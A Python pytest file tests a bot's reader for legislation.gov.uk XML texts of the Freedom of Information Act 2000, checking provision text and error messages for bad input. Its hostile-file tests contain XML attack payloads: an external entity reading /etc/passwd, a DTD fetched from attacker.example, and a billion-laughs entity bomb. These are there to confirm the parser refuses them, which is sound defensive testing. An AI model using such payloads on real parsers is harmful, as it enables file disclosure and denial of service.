"""Reading an Act's official text: what CLML holds, and files that are wrong or hostile."""

from pathlib import Path

import pytest

from bot.books.clml import MAX_BYTES, Statute, read_clml
from bot.books.lawbook import read_acts
from bot.foi.errors import FoiError
from bot.foi.provisions import Provision

FILE = Path(__file__).parent / "data" / "foia_clml.xml"
NAMESPACE = "http://www.legislation.gov.uk/namespaces/legislation"


@pytest.fixture(scope="module")
def statute() -> Statute:
    return read_clml(FILE, read_acts())


def test_the_act_and_its_version(statute):
    assert statute.act == "foia"
    assert statute.source == (
        "Freedom of Information Act 2000, legislation.gov.uk, as at 2024-03-01"
    )


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("foia:s31(1)(a)", "the prevention or detection of crime,"),
        (
            "foia:s31(1)",
            "Information which is not exempt information by virtue of section 30 is exempt "
            "information if its disclosure under this Act would, or would be likely to, "
            "prejudice—\n"
            "(a) the prevention or detection of crime,\n"
            "(b) the apprehension or prosecution of offenders,",
        ),
        (
            "foia:s24(2)",
            "The duty to confirm or deny does not arise if, or to the extent that, exemption from "
            "section 1(1)(a) is required for the purpose of safeguarding national security.",
        ),
        ("foia:s40(3a)(a)", "would contravene any of the data protection principles, or"),
    ],
)
def test_text_by_limb(statute, name, text):
    assert statute.text[Provision.parse(name)] == text


@pytest.mark.parametrize(
    ("name", "why"),
    [
        ("foia:s40(9)", "not yet in force"),
        ("foia:s98a", "another Act's words, quoted in an amendment"),
        ("foia:s1", "a paragraph of a Schedule"),
    ],
)
def test_what_is_no_provision_of_the_act(statute, name, why):
    assert Provision.parse(name) not in statute.text, why


def test_prospective_text_is_not_in_its_section_either(statute):
    assert "not yet in force" not in statute.text[Provision.parse("foia:s40")]


def test_regulations_are_named_with_r(tmp_path):
    file = tmp_path / "eir.xml"
    file.write_text(
        f'<Legislation xmlns="{NAMESPACE}" DocumentURI="http://www.legislation.gov.uk/uksi/2004/3391">'
        "<Secondary><Body><P1group><P1><Pnumber>12</Pnumber><P1para><P2><Pnumber>2</Pnumber>"
        "<P2para><Text>A public authority shall apply a presumption in favour of disclosure.</Text>"
        "</P2para></P2></P1para></P1></P1group></Body></Secondary></Legislation>",
        encoding="utf-8",
    )
    found = read_clml(file, read_acts())
    assert found.act == "eir"
    assert found.text[Provision.parse("eir:r12(2)")].endswith("in favour of disclosure.")
    assert "version not stated" in found.source


def spoilt(old: str, new: str) -> bytes:
    text = FILE.read_text(encoding="utf-8")
    assert old in text
    return text.replace(old, new).encode()


def with_doctype(doctype: str, use: str) -> bytes:
    text = spoilt("the prevention or detection of crime,", use).decode()
    return text.replace("<Legislation ", f"{doctype}\n<Legislation ", 1).encode()


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha" * 50}">' for n in range(12))


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (b"", "not well-formed XML"),
        (b"Dear Sir, section 31 applies.", "not well-formed XML"),
        (b"\x00\x01PK\x03\x04", "not well-formed XML"),
        (FILE.read_bytes()[:2000], "not well-formed XML"),
        (b"<html><body>section 31</body></html>", "not of legislation.gov.uk's kind"),
        (f'<Legislation xmlns="{NAMESPACE}"/>'.encode(), "no address"),
        (spoilt("ukpga/2000/36", "ukpga/1985/68"), "1985/68' is none of: Freedom of"),
        (spoilt("ukpga/2000/36", "ukpga/2000/361"), "2000/361' is none of"),
        (spoilt("id/ukpga/2000/36", "id/ukpga/2000/36/section/31"), "only a piece"),
        (spoilt("id/ukpga/2000/36", "id/ukpga/2000/36/contents"), "only a piece"),
        (spoilt("Body>", "Contents>"), "no sections"),
        (
            with_doctype('<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>', "&f;"),
            "declares a document type",
        ),
        (
            with_doctype('<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">', "nothing"),
            "declares a document type",
        ),
        # The parser itself stops at the thousandfold growth.
        (with_doctype(f"<!DOCTYPE x [{LAUGHS}]>", "&l11;"), "not well-formed XML"),
        (b"<a>" * 5000 + b"</a>" * 5000, "not well-formed XML"),
    ],
)
def test_wrong_and_hostile_files_get_one_sentence(tmp_path, content, why):
    file = tmp_path / "data.xml"
    file.write_bytes(content)
    with pytest.raises(FoiError) as caught:
        read_clml(file, read_acts())
    assert why in caught.value.sentence
    assert "\n" not in caught.value.sentence
    assert "root:" not in caught.value.sentence  # of /etc/passwd


def test_entities_in_attributes_do_not_grow(tmp_path):
    file = tmp_path / "data.xml"
    doctype = f"<!DOCTYPE x [{LAUGHS}]>"
    file.write_bytes(with_doctype(doctype, '<Text id="&l11;"/>'))
    with pytest.raises(FoiError):
        read_clml(file, read_acts())


def test_a_huge_file_is_refused_unread(tmp_path):
    file = tmp_path / "data.xml"
    with file.open("wb") as stream:
        stream.truncate(MAX_BYTES + 1)
    with pytest.raises(FoiError, match="too many for an Act"):
        read_clml(file, read_acts())


def test_a_folder_and_a_missing_file_are_named(tmp_path):
    for path in (tmp_path, tmp_path / "nothere.xml"):
        with pytest.raises(FoiError, match=path.name):
            read_clml(path, read_acts())
